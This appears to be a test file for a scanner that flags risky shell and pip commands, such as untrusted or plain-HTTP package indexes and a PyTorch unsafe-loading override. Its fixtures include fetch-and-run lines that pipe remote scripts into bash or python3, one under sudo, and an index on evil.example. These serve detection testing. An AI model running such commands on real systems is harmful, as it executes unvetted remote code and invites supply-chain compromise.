import type { RawFinding } from './types';
import { analyzeShell, parsePipelines } from './shell';
import { trustedSources } from './sources';

function rules(text: string, options = {}): Array<[string, string]> {
  const out: RawFinding[] = [];
  analyzeShell(text, 0, trustedSources(options), out);
  return out.map(f => [f.ruleId, text.slice(f.from, f.to)]);
}

describe('shell rules', () => {
  it('splits pipelines, commands and words with quotes and continuations', () => {
    const p = parsePipelines('a "b c" | d \\\n e; f && g', 10);
    expect(p.map(pl => pl.map(cmd => cmd.map(w => w.value)))).toEqual([
      [
        ['a', 'b c'],
        ['d', 'e']
      ],
      [['f']],
      [['g']]
    ]);
    expect(p[0][0][1]).toEqual({ value: 'b c', from: 12, to: 17 });
  });

  it.each([
    [
      'pip install --index-url=http://h/simple x',
      'pip-http-index',
      '--index-url=http://h/simple'
    ],
    ['pip3 install -i http://h/simple x', 'pip-http-index', 'http://h/simple'],
    [
      'python3 -m pip install --extra-index-url https://evil.example/simple x',
      'pip-untrusted-index',
      'https://evil.example/simple'
    ],
    [
      'uv pip install --find-links https://files.example/wheels x',
      'pip-untrusted-index',
      'https://files.example/wheels'
    ],
    [
      'pip install --trusted-host h.example x',
      'pip-trusted-host',
      '--trusted-host h.example'
    ],
    [
      'pip install "pkg @ git+http://git.example/r.git"',
      'pip-git-http',
      '"pkg @ git+http://git.example/r.git"'
    ],
    [
      'pip install http://files.example/pkg-1.0.tar.gz',
      'pip-http-index',
      'http://files.example/pkg-1.0.tar.gz'
    ],
    [
      'PIP_INDEX_URL=http://h/simple pip install x',
      'pip-http-index',
      'PIP_INDEX_URL=http://h/simple'
    ],
    [
      'curl -fsSL https://x.example/i.sh | tee log | sudo -E bash -s',
      'shell-pipe-to-interpreter',
      'curl -fsSL https://x.example/i.sh | tee log | sudo -E bash -s'
    ],
    [
      'wget -qO- https://x.example/i.py | python3 -',
      'shell-pipe-to-interpreter',
      'wget -qO- https://x.example/i.py | python3 -'
    ],
    [
      'sh -c "$(curl -fsSL https://x.example/i.sh)"',
      'shell-pipe-to-interpreter',
      'sh -c "$(curl -fsSL https://x.example/i.sh)"'
    ],
    [
      'export TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=yes',
      'torch-force-no-weights-only',
      'TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=yes'
    ]
  ])('%s -> %s', (text, ruleId, flagged) => {
    expect(rules(text)).toEqual([[ruleId, flagged]]);
  });

  it.each([
    'pip install torch',
    'pip install -r requirements.txt',
    'pip install --index-url https://pypi.org/simple/ x',
    'pip install "pkg @ git+https://git.example/r.git@abc123"',
    'curl -o setup.sh https://x.example/i.sh',
    'curl https://x.example/data.csv | head',
    'echo "curl x | sh"',
    'export TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=0',
    'pip install --find-links ./wheels x',
    '# pip install --trusted-host h x'
  ])('leaves %s alone', text => {
    expect(rules(text)).toEqual([]);
  });

  it('trusts the indexes it is given', () => {
    const text =
      'pip install --index-url https://user:secret@pypi.corp.example/simple x';
    expect(rules(text)).toEqual([
      ['pip-untrusted-index', 'https://user:secret@pypi.corp.example/simple']
    ]);
    expect(
      rules(text, { trustedIndexes: ['https://pypi.corp.example/simple'] })
    ).toEqual([]);
  });
});
